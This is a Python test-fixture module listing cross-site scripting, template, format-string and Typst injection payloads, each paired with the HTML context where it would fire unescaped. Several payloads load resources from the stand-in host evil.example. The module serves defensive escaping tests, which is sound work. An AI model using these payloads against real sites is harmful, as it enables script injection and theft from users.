"""Texts that would do something if a page, a file or a template took them for more than text.

Whatever they would put into a page carries the attribute `xss`; whatever they would ask for lies
at `/xss` or on another host; what they would run calls `alert`. `place` is where such a text bites
when it stands there as it is: `test_injection.py` puts each there and sees the traps snap.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Final


@dataclass(frozen=True)
class Payload:
    """A hostile text, and the place in which it would bite unescaped."""

    text: str
    place: str


# Pages into which a text is put as it is. An empty one: the text bites elsewhere than in a page.
PLACES: Final[dict[str, str]] = {
    "text": "<p>{}</p>",
    "double": '<input type="text" value="{}">',
    "single": "<input type='text' value='{}'>",
    "href": '<a id="link" href="{}">x</a>',
    "comment": "<!-- {} -->",
    "title": "<svg><title></title></svg><textarea>{}</textarea>",
    "script": '<script type="application/json" id="data">"{}"</script>',
    "style": "<style>p::after {{ content: '{}' }}</style>",
    "choice": "<select><option>{}</option></select>",
    "decoded": "<p>{}</p>",
    "template": "",
    "format": "",
    "typst": "",
}

_TEXTS: Final[dict[str, tuple[str, ...]]] = {
    "text": (
        "<script xss>alert(1)</script>",
        "<img xss src=x onerror=alert(1)>",
        "<svg xss onload=alert(1)>",
        "<svg xss/onload=alert(1)//",
        "<body xss onload=alert(1)>",
        "<iframe xss src=javascript:alert(1)>",
        '<iframe xss srcdoc="<script>alert(1)</script>">',
        "<details xss open ontoggle=alert(1)>",
        "<input xss autofocus onfocus=alert(1)>",
        "<video xss><source onerror=alert(1)>",
        "<audio xss src=x onerror=alert(1)>",
        "<object xss data=javascript:alert(1)>",
        "<embed xss src=//evil.example/x.swf>",
        "<link xss rel=stylesheet href=//evil.example>",
        "<style xss>*{background:url(//evil.example)}</style>",
        '<meta xss http-equiv=refresh content="0;/xss">',
        "<base xss href=//evil.example/>",
        "<form xss action=//evil.example><button>x",
        "<a xss href=javascript:alert(1)>x</a>",
        '<a xss href="java&#9;script:alert(1)">x</a>',
        "<math xss><mi xlink:href=javascript:alert(1)>x",
        "<svg xss><script>alert(1)</script></svg>",
        "<svg xss><animate onbegin=alert(1)>",
        "<svg xss><use href=//evil.example/x#y>",
        "<template xss><script>alert(1)</script>",
        "<div xss hx-get=/xss hx-trigger=load>x",
        "<div xss hx-on:load=alert(1)>x</div>",
        "<i xss hx-on::load=alert(1)>x",
        "<div xss hx-swap-oob=true id=say>x</div>",
        "<p xss data-hx-post=/xss data-hx-trigger=load>x",
        '<b xss hx-vals="js:{a:alert(1)}" hx-get=/xss hx-trigger=load>x',
        "<div xss hx-boost=true><a href=/xss>x",
        "<template xss><p hx-get=/xss></p>",
        "<img xss src=//evil.example/a.png>",
        '<img xss srcset="//evil.example/a 1x">',
        '<noscript><p title="</noscript><img xss src=x onerror=alert(1)>">',
        "<p xss style=background:url(//evil.example)>",
        "<dialog xss open>x",
        "\u202e<svg xss onload=alert(1)>",
        "<b xss>Deniz</b>",
    ),
    "double": (
        '"><svg xss onload=alert(1)>',
        '" xss autofocus onfocus=alert(1) x="',
        '" xss onmouseover=alert(1) x="',
        '" xss hx-get=/xss hx-trigger=load x="',
        '" xss style="background:url(//evil.example)',
    ),
    "single": ("'><svg xss onload=alert(1)>", "' xss autofocus onfocus=alert(1) x='"),
    "href": (
        "javascript:alert(1)//xss",
        "java\tscript:alert(1)//xss",
        "data:text/html,<script>alert(1)</script>",
        "//evil.example/xss",
    ),
    "comment": ("--><svg xss onload=alert(1)>", "--!><img xss src=x onerror=alert(1)>"),
    "title": ("</textarea><svg xss onload=alert(1)>", "</textarea></title><script xss>alert(1)//"),
    "script": ("</script><svg xss onload=alert(1)>", '";</script><script xss>alert(1)</script>'),
    "style": ("</style><svg xss onload=alert(1)>",),
    "choice": ("</option></select><svg xss onload=alert(1)>",),
    "decoded": (
        "&lt;svg xss onload=alert(1)&gt;",
        "&#60;svg xss onload=alert(1)&#62;",
        "%3Csvg xss onload=alert(1)%3E",
        "\\u003csvg xss onload=alert(1)\\u003e",
        "\uff1csvg xss onload=alert(1)\uff1e",
    ),
    "template": ("{{ 7|add:7 }} xss", '{% now "Y" %} xss', "{% include x %} xss"),
    "format": ("%(xss)s %d %s", "{xss.__class__} {0}"),
    "typst": ('#panic("xss")', "]#panic()[ xss", "@xss-nowhere", "$ #xss $"),
}

PAYLOADS: Final = tuple(Payload(text, place) for place, texts in _TEXTS.items() for text in texts)


def fitting(longest: int | None) -> list[str]:
    """The texts that a field of this length takes, none being cut."""
    return [one.text for one in PAYLOADS if longest is None or len(one.text) <= longest]
